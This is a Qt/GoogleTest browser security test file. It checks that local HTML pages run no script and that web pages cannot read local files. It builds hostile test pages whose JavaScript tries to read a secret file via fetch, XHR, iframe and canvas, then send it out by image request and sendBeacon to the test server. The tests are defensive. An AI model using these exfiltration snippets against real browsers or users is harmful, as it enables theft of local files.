// Local pages show their own pictures and styles, but no script may read another
// local file's content, in any view: a page from disk runs no script at all, and a
// page that runs scripts reads no local file.
#include "tests/browser/SiteWindowFixture.h"
#include "tests/support/Eventually.h"

#include "platform/WebBrowser.h"
#include "tests/support/TestSupport.h"

#include <QDir>
#include <QTest>
#include <QUuid>
#include <QWebEnginePage>
#include <QWebEngineSettings>

namespace {

class LocalFileAccess : public SiteWindowFixture {
protected:
    void SetUp() override
    {
        SiteWindowFixture::SetUp();
        ASSERT_TRUE(attack.isValid());
        secret = "QUARROW-SECRET-" + QUuid::createUuid().toByteArray(QUuid::WithoutBraces);
        ASSERT_TRUE(testsupport::writeFile(attack.path() + "/secret.txt", secret + "\n"));
        ASSERT_TRUE(
            testsupport::writeFile(attack.path() + "/secret.png", TestSite::pngBytes(4, 3)));
    }

    // A hostile page beside the secret: `attempt` is script that calls
    // report(text) with whatever it got. The page hands the result to the
    // title and tries to send it to the test server.
    QString writeHostilePage(const QString &name, const QString &attempt)
    {
        const QString page =
            "<html><head><title>hostile</title></head><body><p>hostile page</p><script>\n"
            "var S = '" +
            site.url("") +
            "';\n"
            "var reported = false;\n"
            "function report(r) {\n"
            "  if (reported) return; reported = true;\n"
            "  document.title = 'done:' + r;\n"
            "  try { new Image().src = S + '/leak?d=' + encodeURIComponent(r); } catch (e) {}\n"
            "  try { navigator.sendBeacon(S + '/beacon', String(r)); } catch (e) {}\n"
            "}\n"
            "setTimeout(function() { report('timeout'); }, 8000);\n"
            "try {\n" +
            attempt +
            "\n} catch (e) { report('blocked:' + e.name); }\n"
            "</script><img src='" +
            site.url("/sentinel") + "'></body></html>\n";
        const QString path = attack.path() + "/" + name;
        testsupport::writeFile(path, page.toUtf8());
        return path;
    }

    QString liveTitle() const { return view(0)->page()->title(); }

    QTemporaryDir attack;
    QByteArray secret;
};

struct Channel {
    const char *name;
    const char *attempt;
};

// Ways a script might read a file named secret.txt or secret.png.
const Channel kChannels[] = {
    {"fetch", "fetch('secret.txt').then(function(r) { return r.text(); })"
              ".then(function(t) { report(t); },"
              " function(e) { report('blocked:' + e.name); });"},
    {"xhr", "var x = new XMLHttpRequest();"
            "x.onload = function() { report(x.responseText); };"
            "x.onerror = function() { report('blocked:error'); };"
            "x.open('GET', 'secret.txt'); x.send();"},
    {"frame", "var f = document.createElement('iframe');"
              "f.onload = function() {"
              "  try { var d = f.contentDocument;"
              "        report(d && d.body ? d.body.textContent : 'blocked:null'); }"
              "  catch (e) { report('blocked:' + e.name); } };"
              "f.src = 'secret.txt'; document.body.appendChild(f);"},
    {"canvas", "var i = new Image();"
               "i.onload = function() {"
               "  var c = document.createElement('canvas'); c.width = 4; c.height = 3;"
               "  var g = c.getContext('2d'); g.drawImage(i, 0, 0);"
               "  var got = '';"
               "  try { got += c.toDataURL(); } catch (e) { got += 'blocked:' + e.name; }"
               "  try { got += ' ' + g.getImageData(0, 0, 4, 3).data.join(','); }"
               "  catch (e) { got += ' blocked:' + e.name; }"
               "  report('shown ' + i.naturalWidth + 'x' + i.naturalHeight + ' ' + got); };"
               "i.onerror = function() { report('not shown'); };"
               "i.src = 'secret.png';"},
};

TEST_F(LocalFileAccess, NoScriptOfALocalPageReadsAnotherLocalFile)
{
    for (const Channel &channel : kChannels) {
        SCOPED_TRACE(channel.name);
        const QString page =
            writeHostilePage(QString("hostile-%1.html").arg(channel.name), channel.attempt);
        ASSERT_TRUE(view(0)->Navigate2(page));
        const QString address = QUrl::fromLocalFile(page).toString();
        const int sentinels = site.server().requests().count("/sentinel");
        EXPECT_EVENTUALLY(view(0)->LocationURL() == address && liveTitle() == "hostile", 20000);
        // The picture after the script is asked for once the page is read: a
        // script that ran would have changed the title by then, and one that
        // never ran sends nothing.
        EXPECT_EVENTUALLY(
            site.server().requests().count("/sentinel") > sentinels && !view(0)->Busy(), 20000);
        const QString title = liveTitle();
        EXPECT_EQ(title.toStdString(), "hostile");
        EXPECT_FALSE(site.server().anyRequestContains(secret));
        EXPECT_FALSE(site.server().anyRequestContains("leak"));
    }
}

TEST_F(LocalFileAccess, NoWebPageReadsALocalFile)
{
    const QString folder = QUrl::fromLocalFile(attack.path()).toString() + "/";
    for (const Channel &channel : kChannels) {
        SCOPED_TRACE(channel.name);
        QString attempt = QString::fromLatin1(channel.attempt);
        attempt.replace("'secret.", "'" + folder + "secret.");
        const QString path = QString("/web-%1.html").arg(channel.name);
        const QString local = writeHostilePage("unused.html", attempt);
        site.server().setRoute(path, testsupport::readFile(local));
        const int leaks = site.server().requests().count("/leak");
        const int beacons = site.server().requests().count("/beacon");
        ASSERT_TRUE(view(0)->Navigate(site.url(path)));
        EXPECT_EVENTUALLY(
            view(0)->LocationURL() == site.url(path) && liveTitle().startsWith("done:"), 20000);
        const QString title = liveTitle();
        EXPECT_FALSE(title.contains(QString::fromLatin1(secret))) << title.toStdString();
        // A frame of a local file never loads in a web page; the page then
        // reports only its time-out.
        if (QByteArray(channel.name) != "frame") {
            EXPECT_TRUE(title.contains("blocked") || title == "done:not shown")
                << title.toStdString();
        }
        // What the page sends with its report has arrived.
        EXPECT_EVENTUALLY(site.server().requests().count("/leak") > leaks &&
                              site.server().requests().count("/beacon") > beacons,
                          20000);
        EXPECT_FALSE(site.server().anyRequestContains(secret));
    }
}

TEST_F(LocalFileAccess, LocalPagesShowTheirPicturesAndStylesButRunNoScript)
{
    QDir(attack.path()).mkpath("pics");
    testsupport::writeFile(attack.path() + "/pics/own.png", TestSite::pngBytes(5, 2));
    testsupport::writeFile(attack.path() + "/own.png", TestSite::pngBytes(3, 7));
    testsupport::writeFile(attack.path() + "/own.css", "p { color: rgb(1, 2, 3); }");
    const QString page = attack.path() + "/own.html";
    testsupport::writeFile(page, "<html><head><title>Own</title>"
                                 "<link rel=stylesheet href=own.css></head><body>"
                                 "<p id=p>styled</p><img id=a src=own.png>"
                                 "<img id=b src=pics/own.png><script>"
                                 "document.documentElement.setAttribute('data-own', 'ran');"
                                 "</script></body></html>");
    const int before = form->harvestsDone();
    ASSERT_TRUE(view(0)->Navigate2(page));
    ASSERT_TRUE(waitForHarvests(before + 1));
    const QString state = "getComputedStyle(document.getElementById('p')).color + ' ' + "
                          "document.images[0].naturalWidth + 'x' + "
                          "document.images[1].naturalWidth + ' ' + "
                          "document.documentElement.getAttribute('data-own')";
    EXPECT_EVENTUALLY_EQ(evaluate(0, state).toString(), QString("rgb(1, 2, 3) 3x5 null"), 10000);

    // The Images view runs no script, so it may show the local page's pictures.
    ASSERT_TRUE(waitForGeneratedViews());
    const QString images = generatedAddress(2);
    const QString countLoaded =
        "(function(){var a=Array.from(document.images);return a.length>0&&a.every("
        "function(i){return i.complete&&i.naturalWidth>0;});})()";
    EXPECT_EVENTUALLY(view(2)->LocationURL() == images && !view(2)->Busy() &&
                          evaluate(2, countLoaded).toBool(),
                      15000);
}

TEST_F(LocalFileAccess, TheStartPageShowsItsOwnPictures)
{
    testsupport::writeFile(programFile("logo.png"), TestSite::pngBytes(6, 4));
    view(0)->GoHome();
    ASSERT_TRUE(waitForLoad(0));
    EXPECT_EVENTUALLY_EQ(evaluate(0, "(function(){var i=document.images[0];"
                                     "return i.naturalWidth+'x'+i.naturalHeight;})()")
                             .toString(),
                         QString("6x4"), 10000);
}

TEST_F(LocalFileAccess, EveryViewAndEveryPopupKeepsLocalFilesApart)
{
    // With a local page in the live view, no view both runs scripts and lets its
    // page read other files.
    const QString page = attack.path() + "/plain.html";
    testsupport::writeFile(page, "<html><body><p>plain</p></body></html>");
    ASSERT_TRUE(view(0)->Navigate2(page));
    ASSERT_TRUE(waitForLoad(0));
    for (int index : {0, 1, 2}) {
        WebBrowser *view = this->view(index);
        const QWebEngineSettings *settings = view->page()->settings();
        EXPECT_FALSE(settings->testAttribute(QWebEngineSettings::JavascriptEnabled) &&
                     settings->testAttribute(QWebEngineSettings::LocalContentCanAccessFileUrls))
            << view->index();
    }
    // A popup of a web page runs scripts, so it reads no local file.
    site.server().setRoute("/opener.html",
                           "<html><body><script>window.open('');</script></body></html>");
    ASSERT_TRUE(view(0)->Navigate(site.url("/opener.html")));
    EXPECT_EVENTUALLY(view(0)->pendingPopup() != nullptr, 10000);
    QWebEngineSettings *popup = view(0)->pendingPopup()->settings();
    EXPECT_TRUE(popup->testAttribute(QWebEngineSettings::JavascriptEnabled));
    EXPECT_FALSE(popup->testAttribute(QWebEngineSettings::LocalContentCanAccessFileUrls));
    EXPECT_FALSE(popup->testAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls));
}

} // namespace
